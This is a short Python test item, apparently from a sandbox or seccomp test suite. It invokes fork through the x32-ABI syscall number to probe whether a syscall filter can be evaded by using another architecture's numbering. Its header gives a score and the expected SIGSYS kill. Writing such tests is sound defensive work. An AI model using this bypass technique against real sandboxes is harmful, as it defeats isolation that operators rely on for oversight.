# /// attack
# title = "makes system calls by the numbers of another architecture"
# score = 100
# says = ["crashed the whole process (SIGSYS)"]
# then_right = true
# ///
import ctypes

libc = ctypes.CDLL(None, use_errno=True)

libc.syscall(0x40000000 | 57)  # x32's fork
print("it was let through")
